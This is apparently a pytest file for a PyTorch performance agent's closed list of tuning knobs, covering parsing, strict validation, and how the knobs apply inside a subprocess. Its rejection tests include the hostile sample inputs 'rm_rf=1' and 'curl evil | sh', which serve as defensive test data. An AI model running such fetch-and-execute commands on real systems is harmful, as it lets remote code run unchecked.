"""The closed list of knobs: parsing, and application inside a real torch process."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from perfweb_agent.ab import knobs
from perfweb_agent.ab.knobs import StepLimit
from perfweb_contract import knobs as catalogue
from perfweb_contract.knobs import KnobError

REPO = Path(__file__).resolve().parents[2]


def test_it_parses_the_env_form_into_typed_values() -> None:
    assert catalogue.parse_knobs("num_workers=4, pin_memory=true,threads=2") == {
        "num_workers": 4,
        "pin_memory": True,
        "threads": 2,
    }


def test_it_formats_back_canonically() -> None:
    settings = catalogue.parse_knobs("threads=2,amp=BF16,empty_cache=off")
    assert catalogue.format_knobs(settings) == "amp=bf16,empty_cache=off,threads=2"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("rm_rf=1", 'unknown knob "rm_rf"'),
        ("num_workers=four", 'knob num_workers: "four" is not a whole number'),
        ("num_workers=-1", "knob num_workers: -1 is outside 0..256"),
        ("pin_memory=maybe", 'knob pin_memory: "maybe" is not true or false'),
        ("amp=fp16", 'knob amp: "fp16" is not allowed (use bf16)'),
        ("threads", 'knob setting "threads" is not KEY=VALUE'),
        ("threads=2,threads=3", "knob threads is given twice"),
    ],
)
def test_it_rejects_anything_off_the_closed_list(text: str, message: str) -> None:
    with pytest.raises(KnobError) as error:
        catalogue.parse_knobs(text)
    assert message in str(error.value)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize("raw", ["4_0", "\u0664", "\uff14", "\u00b2", "4\u0660", "0x4", " 4 0"])
def test_it_accepts_ascii_digits_only_as_a_whole_number(raw: str) -> None:
    with pytest.raises(KnobError) as error:
        catalogue.parse_knobs(f"num_workers={raw}")
    assert "is not a whole number" in str(error.value)
    with pytest.raises(KnobError):
        catalogue.validate_knobs({"threads": raw})
    with pytest.raises(KnobError):
        knobs.max_steps_from_env({"PERF_AGENT_MAX_STEPS": raw})


def test_it_still_reads_signed_ascii_numbers() -> None:
    settings = catalogue.parse_knobs("num_workers=+4, threads= 12 ")
    assert settings == {"num_workers": 4, "threads": 12}
    assert knobs.max_steps_from_env({"PERF_AGENT_MAX_STEPS": " 40 "}) == 40


def test_it_revalidates_typed_job_settings() -> None:
    assert catalogue.validate_knobs({"num_workers": 2, "pin_memory": True}) == {
        "num_workers": 2,
        "pin_memory": True,
    }
    with pytest.raises(KnobError):
        catalogue.validate_knobs({"command": "curl evil | sh"})
    with pytest.raises(KnobError):
        catalogue.validate_knobs({"num_workers": [1]})


def test_every_knob_names_a_finding_of_the_catalog() -> None:
    catalog = REPO.parent / "shared" / "FIXES.md"
    fixes = catalog.read_text() if catalog.exists() else ""
    for name, knob in catalogue.KNOBS.items():
        assert catalogue.FINDING_KNOBS[knob.finding_id] == name
        if fixes:
            assert f"`{knob.finding_id}`" in fixes


def test_max_steps_is_read_and_checked() -> None:
    assert knobs.max_steps_from_env({"PERF_AGENT_MAX_STEPS": "12"}) == 12
    assert knobs.max_steps_from_env({}) is None
    with pytest.raises(KnobError):
        knobs.max_steps_from_env({"PERF_AGENT_MAX_STEPS": "0"})


def test_the_step_limit_flushes_then_exits_zero() -> None:
    flushed: list[int] = []
    limit = StepLimit(3, flush=lambda: flushed.append(1))
    limit.on_step()
    limit.on_step()
    with pytest.raises(SystemExit) as stop:
        limit.on_step()
    assert stop.value.code == 0 and flushed == [1]


def test_apply_from_env_reports_a_bad_setting_instead_of_raising() -> None:
    assert knobs.apply_from_env({"PERF_AGENT_KNOBS": "nope=1"})["*"].startswith("error:")


PROBE = textwrap.dedent(
    """
    import json, os, sys
    from perfweb_agent.ab import knobs
    knobs.apply_from_env()
    import torch
    from torch.utils.data import DataLoader
    from perfweb_agent.ab import knobs_torch

    loader = DataLoader(list(range(8)), batch_size=2, num_workers=0, prefetch_factor=None)
    torch.set_num_threads(7)  # the script's own call: the knob wins
    model = torch.nn.Linear(4, 4)
    loss_fn = torch.nn.MSELoss()
    out = model(torch.zeros(2, 4))
    torch.cuda.empty_cache()
    print(json.dumps({
        "num_workers": loader.num_workers, "pin_memory": loader.pin_memory,
        "persistent_workers": loader.persistent_workers, "batch_size": loader.batch_size,
        "threads": torch.get_num_threads(), "omp": os.environ.get("OMP_NUM_THREADS"),
        "alloc_conf": os.environ.get("PYTORCH_CUDA_ALLOC_CONF"),
        "cudnn_benchmark": torch.backends.cudnn.benchmark,
        "out_dtype": str(out.dtype),
        "status": knobs_torch.status(),
    }))
    """
)


def _probe(knob_text: str) -> dict:
    env = {**os.environ, "PERF_AGENT_KNOBS": knob_text, "PYTHONPATH": str(REPO)}
    done = subprocess.run(
        [sys.executable, "-c", PROBE], env=env, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_knobs_apply_inside_the_process_without_editing_the_script() -> None:
    seen = _probe(
        "num_workers=2,persistent_workers=true,pin_memory=false,batch_size=4,threads=1,"
        "expandable_segments=true,cudnn_benchmark=true,empty_cache=off,amp=bf16"
    )
    assert seen["num_workers"] == 2
    assert seen["persistent_workers"] is True
    assert seen["pin_memory"] is False
    assert seen["batch_size"] == 4
    assert seen["threads"] == 1 and seen["omp"] == "1"
    assert seen["alloc_conf"] == "expandable_segments:True"
    assert seen["cudnn_benchmark"] is True
    assert seen["out_dtype"] == "torch.bfloat16"
    assert seen["status"]["amp"].startswith("applied: bf16 autocast on Linear")
    assert all(not state.startswith("error") for state in seen["status"].values())


def test_no_knobs_leaves_the_script_alone() -> None:
    seen = _probe("")
    assert seen["num_workers"] == 0 and seen["batch_size"] == 2
    assert seen["out_dtype"] == "torch.float32"
    assert seen["status"] == {}


COMPILE_PROBE = textwrap.dedent(
    """
    import json, sys
    from perfweb_agent.ab import knobs
    knobs.apply_from_env()
    import torch
    from perfweb_agent.ab import knobs_torch

    compiled = []
    torch.compile = lambda fn, mode: compiled.append(mode) or fn  # no inductor in a unit test
    model = torch.nn.Linear(4, 4)
    if sys.argv[-1] == "dp":
        model = torch.nn.DataParallel(model)
    model(torch.zeros(2, 4))
    model(torch.zeros(2, 4))
    print(json.dumps({"compiled": compiled, "status": knobs_torch.status()}))
    """
)


@pytest.mark.parametrize(("wrap", "expected"), [("plain", ["reduce-overhead"]), ("dp", [])])
def test_compile_applies_once_to_the_model_where_safe(wrap: str, expected: list) -> None:
    env = {**os.environ, "PERF_AGENT_KNOBS": "compile=reduce-overhead", "PYTHONPATH": str(REPO)}
    done = subprocess.run(
        [sys.executable, "-c", COMPILE_PROBE, wrap],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    seen = json.loads(done.stdout.strip().splitlines()[-1])
    assert seen["compiled"] == expected
    state = seen["status"]["compile"]
    assert state.startswith("applied") if expected else "DataParallel" in state


def test_max_steps_ends_an_attached_run_cleanly_after_n_steps(tmp_path: Path) -> None:
    from perfweb_agent.ab.engine import read_step_durations

    env = {**os.environ, "PERF_AGENT_MAX_STEPS": "5", "PYTHONPATH": str(REPO)}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "perfweb_agent.cli.main",
            "attach",
            "--offline",
            str(tmp_path),
            "--no-profile",
            "--",
            sys.executable,
            "tests/jobs/input_bound.py",
            "--steps",
            "1000",
        ],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert len(read_step_durations(str(tmp_path))) == 5  # flushed before the exit
    finishes = [json.loads(p.read_text()) for p in tmp_path.rglob("finish.json")]
    assert finishes and all(f["exit_code"] == 0 for f in finishes)


def test_a_process_with_no_knob_and_no_ab_round_imports_none_of_the_ab_machinery() -> None:
    from perfweb_agent.ab import loss_probe, outputs, seed

    assert all(
        env.startswith(knobs.AB_ROUND_ENV_PREFIX)
        for env in (seed.ENV_SEED, loss_probe.ENV_LOSS_FILE, outputs.ENV_OUTPUTS_FILE)
    )
    code = (
        "import sys\nfrom perfweb_agent.ab import knobs\n"
        "assert knobs.apply_from_env({'PATH': '/bin'}) == {}\n"
        "print(sorted(m for m in sys.modules if m.startswith('perfweb_agent.ab.')))\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("PERF_AGENT_")}
    done = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "['perfweb_agent.ab.knobs']"
